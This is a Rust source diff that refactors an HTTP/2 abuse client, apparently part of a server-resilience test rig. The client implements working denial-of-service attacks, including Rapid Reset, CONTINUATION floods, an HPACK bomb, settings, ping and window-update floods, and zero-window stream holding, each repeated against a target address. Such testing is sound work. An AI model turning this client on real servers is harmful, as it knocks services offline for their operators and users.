@@ -1,9 +1,10 @@
 //! A client that abuses HTTP/2 without TLS, on one connection after another, as fast as the server lets it.
 
-use super::http2::{
-    self, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, RST_STREAM, SETTINGS,
-    WINDOW_UPDATE, frame,
+use super::http2::frame::{
+    self, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING,
+    RST_STREAM, SETTINGS, WINDOW_UPDATE,
 };
+use super::http2::header;
 use crate::failure::{Context, Failure, Result};
 use crate::rig::confine::pinned;
 use clap::ValueEnum;
@@ -30,6 +31,14 @@ const INDEXED_NEW_NAME: u8 = 0x40;
 /// The newest field of the dynamic table.
 const NEWEST: u8 = 0x80 | 62;
 
+/// The flags of a request without a body in one frame.
+const WHOLE: u8 = END_HEADERS | END_STREAM;
+/// The code of a stream that the client does not need any more (RFC 9113, 7).
+const CANCEL: u32 = 8;
+/// The files that are requested.
+const SMALL: &str = "/hot/4096.bin";
+const LARGE: &str = "/hot/1000000.bin";
+
 /// What the client does.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum, Serialize, Deserialize)]
 #[serde(rename_all = "kebab-case")]
@@ -38,7 +47,7 @@ pub enum Attack {
     RapidReset,
     /// One header section without an end.
     Continuation,
-    /// The same of frames without content.
+    /// A header section without an end, of frames without content.
     EmptyContinuation,
     /// Settings, all of which have to be acknowledged.
     Settings,
@@ -85,12 +94,14 @@ pub struct AttackReport {
     pub resets: BTreeMap<u32, u64>,
 }
 
-/// A connection, and what of the server's frames is incomplete.
-struct Victim {
+/// A connection to the server that is attacked.
+struct Connection {
     socket: TcpStream,
+    /// The start of a frame of the server.
     partial: Vec<u8>,
+    /// The next stream.
     next: u32,
-    /// The last GOAWAY.
+    /// The code of the last GOAWAY; 0 without one.
     code: u32,
     /// The server has ended it, which was counted.
     has_ended: bool,
@@ -108,16 +119,16 @@ impl Attacker {
         while Instant::now() < end {
             if held.len() == HELD_MAX {
                 std::thread::sleep(PATIENCE);
-                held.retain_mut(|victim: &mut Victim| !victim.has_ended(&mut report));
+                held.retain_mut(|connection: &mut Connection| !connection.has_ended(&mut report));
                 continue;
             }
-            let mut victim = Victim::connect(self.address)?;
+            let mut connection = Connection::connect(self.address)?;
             report.connections += 1;
             if self.attack == Attack::ZeroWindow {
-                victim.send(&zero_windows(), HELD_STREAMS, &mut report);
-                held.push(victim);
+                connection.send(&zero_windows(), HELD_STREAMS, &mut report);
+                held.push(connection);
             } else {
-                self.exhaust(&mut victim, end, &mut report);
+                self.exhaust(&mut connection, end, &mut report);
             }
         }
         let json = serde_json::to_string(&report).context(|| "report".into())?;
@@ -126,50 +137,43 @@ impl Attacker {
     }
 
     /// Attacks until the server ends the connection.
-    fn exhaust(&self, victim: &mut Victim, end: Instant, report: &mut AttackReport) {
-        let mut bytes = self.first(victim);
+    fn exhaust(&self, connection: &mut Connection, end: Instant, report: &mut AttackReport) {
+        let mut bytes = self.first(connection);
         while Instant::now() < end {
-            let frames = self.piece(victim, &mut bytes);
-            let is_sent = victim.send(&bytes, frames, report);
+            let frames = self.piece(connection, &mut bytes);
+            let is_sent = connection.send(&bytes, frames, report);
             bytes.clear();
-            if victim.has_ended(report) || !is_sent {
+            if connection.has_ended(report) || !is_sent {
                 return;
             }
         }
     }
 
     /// What a connection begins with.
-    fn first(&self, victim: &mut Victim) -> Vec<u8> {
+    fn first(&self, connection: &mut Connection) -> Vec<u8> {
         let mut bytes = Vec::new();
         match self.attack {
             // Its responses have to be on their way when it resets them, so the windows stay as small as they are.
-            Attack::RapidReset => http2::preface_with(&mut bytes, &[]),
+            Attack::RapidReset => frame::preface_with(&mut bytes, &[]),
             // A larger one would be full after a few updates, which is another fault.
-            Attack::WindowUpdates => http2::preface_with(&mut bytes, &[]),
-            _ => http2::preface(&mut bytes),
+            Attack::WindowUpdates => frame::preface_with(&mut bytes, &[]),
+            _ => frame::preface(&mut bytes),
         }
-        let stream = victim.next;
+        let stream = connection.next;
         match self.attack {
             Attack::Continuation | Attack::EmptyContinuation => {
-                frame(&mut bytes, HEADERS, END_STREAM, stream, &get("/"));
+                frame::write(&mut bytes, HEADERS, END_STREAM, stream, &get("/"));
             }
             Attack::EmptyData => {
-                let section = http2::header_section("POST", "http", "a.test", "/");
-                frame(&mut bytes, HEADERS, END_HEADERS, stream, &section);
+                frame::write(&mut bytes, HEADERS, END_HEADERS, stream, &post());
             }
             Attack::HpackBomb => {
-                let mut section = get("/hot/4096.bin");
+                let mut section = get(SMALL);
                 section.push(INDEXED_NEW_NAME);
                 section.extend_from_slice(b"\x01a\x7f\xa1\x1e");
                 section.extend_from_slice(&[b'x'; 4000]);
-                frame(
-                    &mut bytes,
-                    HEADERS,
-                    END_HEADERS | END_STREAM,
-                    stream,
-                    &section,
-                );
-                victim.next += 2;
+                frame::write(&mut bytes, HEADERS, WHOLE, stream, &section);
+                connection.next += 2;
             }
             _ => (),
         }
@@ -177,44 +181,40 @@ impl Attacker {
     }
 
     /// Adds the next piece to `bytes`, and returns the number of its frames.
-    fn piece(&self, victim: &mut Victim, bytes: &mut Vec<u8>) -> u32 {
+    fn piece(&self, connection: &mut Connection, bytes: &mut Vec<u8>) -> u32 {
         for _ in 0..REPETITIONS {
-            let stream = victim.next;
+            let stream = connection.next;
             match self.attack {
                 Attack::RapidReset => {
-                    let section = get("/hot/1000000.bin");
-                    frame(bytes, HEADERS, END_HEADERS | END_STREAM, stream, &section);
-                    frame(bytes, RST_STREAM, 0, stream, &[0, 0, 0, 8]);
-                    victim.next += 2;
+                    frame::write(bytes, HEADERS, WHOLE, stream, &get(LARGE));
+                    frame::write(bytes, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
+                    connection.next += 2;
                 }
                 Attack::Continuation => {
-                    let mut field = Vec::new();
-                    http2::field(&mut field, "a", &"x".repeat(1000));
-                    frame(bytes, CONTINUATION, 0, stream, &field);
+                    frame::write(bytes, CONTINUATION, 0, stream, &long_field());
                 }
-                Attack::EmptyContinuation => frame(bytes, CONTINUATION, 0, stream, &[]),
-                Attack::Settings => frame(bytes, SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]),
-                Attack::Ping => frame(bytes, PING, 0, 0, &[0; 8]),
-                Attack::EmptyData => frame(bytes, DATA, 0, stream, &[]),
+                Attack::EmptyContinuation => frame::write(bytes, CONTINUATION, 0, stream, &[]),
+                Attack::Settings => frame::write(bytes, SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]),
+                Attack::Ping => frame::write(bytes, PING, 0, 0, &[0; 8]),
+                Attack::EmptyData => frame::write(bytes, DATA, 0, stream, &[]),
                 Attack::HpackBomb => {
-                    let section = [get("/hot/4096.bin"), vec![NEWEST; 15_000]].concat();
-                    frame(bytes, HEADERS, END_HEADERS | END_STREAM, stream, &section);
-                    victim.next += 2;
+                    let section = [get(SMALL), vec![NEWEST; 15_000]].concat();
+                    frame::write(bytes, HEADERS, WHOLE, stream, &section);
+                    connection.next += 2;
                 }
-                Attack::LongHeaders => long_headers(bytes, victim),
+                Attack::LongHeaders => long_headers(bytes, connection),
                 Attack::Streams => {
-                    let section = http2::header_section("POST", "http", "a.test", "/");
-                    frame(bytes, HEADERS, END_HEADERS, stream, &section);
-                    victim.next += 2;
+                    frame::write(bytes, HEADERS, END_HEADERS, stream, &post());
+                    connection.next += 2;
                 }
-                Attack::WindowUpdates => frame(bytes, WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
+                Attack::WindowUpdates => frame::write(bytes, WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
                 Attack::ZeroWindow => (),
             }
         }
-        REPETITIONS * self.frames_of_an_abuse()
+        REPETITIONS * self.frames_per_repetition()
     }
 
-    fn frames_of_an_abuse(&self) -> u32 {
+    fn frames_per_repetition(&self) -> u32 {
         match self.attack {
             Attack::RapidReset => 2,
             Attack::LongHeaders => 1 + LONG_HEADERS,
@@ -260,50 +260,48 @@ impl RunningAttacker {
     }
 }
 
+/// The header section of a request without a body.
 fn get(path: &str) -> Vec<u8> {
-    http2::header_section("GET", "http", "a.test", path)
+    header::section("GET", "http", "a.test", path)
+}
+
+/// The header section of a request with a body.
+fn post() -> Vec<u8> {
+    header::section("POST", "http", "a.test", "/")
+}
+
+/// A header of 1000 bytes.
+fn long_field() -> Vec<u8> {
+    let mut field = Vec::new();
+    header::field(&mut field, "a", &"x".repeat(1000));
+    field
 }
 
 /// A request with many headers of 1000 bytes.
-fn long_headers(bytes: &mut Vec<u8>, victim: &mut Victim) {
-    frame(
-        bytes,
-        HEADERS,
-        END_STREAM,
-        victim.next,
-        &get("/hot/4096.bin"),
-    );
+fn long_headers(bytes: &mut Vec<u8>, connection: &mut Connection) {
+    frame::write(bytes, HEADERS, END_STREAM, connection.next, &get(SMALL));
     for number in 1..=LONG_HEADERS {
-        let mut field = Vec::new();
-        http2::field(&mut field, "a", &"x".repeat(1000));
         let flags = if number == LONG_HEADERS {
             END_HEADERS
         } else {
             0
         };
-        frame(bytes, CONTINUATION, flags, victim.next, &field);
+        frame::write(bytes, CONTINUATION, flags, connection.next, &long_field());
     }
-    victim.next += 2;
+    connection.next += 2;
 }
 
 /// Requests of which no byte of a body may be answered.
 fn zero_windows() -> Vec<u8> {
     let mut bytes = Vec::new();
-    http2::preface_with(&mut bytes, &[(http2::INITIAL_WINDOW_SIZE, 0)]);
+    frame::preface_with(&mut bytes, &[(INITIAL_WINDOW_SIZE, 0)]);
     for number in 0..HELD_STREAMS {
-        let flags = END_HEADERS | END_STREAM;
-        frame(
-            &mut bytes,
-            HEADERS,
-            flags,
-            number * 2 + 1,
-            &get("/hot/1000000.bin"),
-        );
+        frame::write(&mut bytes, HEADERS, WHOLE, number * 2 + 1, &get(LARGE));
     }
     bytes
 }
 
-impl Victim {
+impl Connection {
     fn connect(address: SocketAddr) -> Result<Self> {
         let socket = TcpStream::connect_timeout(&address, CONNECT_TIME_MAX)
             .context(|| format!("connect to {address}"))?;
@@ -363,12 +361,12 @@ impl Victim {
     fn take(&mut self, bytes: &[u8], report: &mut AttackReport) {
         self.partial.extend_from_slice(bytes);
         let mut rest = &self.partial[..];
-        while let Some((kind, payload, next)) = http2::split_frame(rest) {
+        while let Some((kind, payload, next)) = frame::split_frame(rest) {
             rest = next;
             match kind {
-                GOAWAY => self.code = http2::u32_at(payload, 4),
+                GOAWAY => self.code = frame::u32_at(payload, 4),
                 RST_STREAM => {
-                    let code = http2::u32_at(payload, 0);
+                    let code = frame::u32_at(payload, 0);
                     *report.resets.entry(code).or_default() += 1;
                 }
                 _ => (),
@@ -392,14 +390,14 @@ mod tests {
         let address = listener.local_addr().unwrap();
         thread::spawn(move || {
             let mut answer = Vec::new();
-            frame(&mut answer, RST_STREAM, 0, 1, &[0, 0, 0, 7]);
-            frame(&mut answer, GOAWAY, 0, 0, &[0, 0, 0, 1, 0, 0, 0, 11]);
+            frame::write(&mut answer, RST_STREAM, 0, 1, &[0, 0, 0, 7]);
+            frame::write(&mut answer, GOAWAY, 0, 0, &[0, 0, 0, 1, 0, 0, 0, 11]);
             for mut socket in listener.incoming().flatten() {
                 socket.read_exact(&mut [0; 24]).unwrap();
                 socket.write_all(&answer).unwrap();
             }
         });
-        let mut victim = Victim::connect(address).unwrap();
+        let mut connection = Connection::connect(address).unwrap();
         let mut report = AttackReport::default();
         let attacker = Attacker {
             address,
@@ -407,7 +405,7 @@ mod tests {
             seconds: 0.0,
         };
         let end = Instant::now() + Duration::from_secs(10);
-        attacker.exhaust(&mut victim, end, &mut report);
+        attacker.exhaust(&mut connection, end, &mut report);
         assert_eq!(report.ended, [(11, 1)].into());
         assert_eq!(report.resets, [(7, 1)].into());
     }
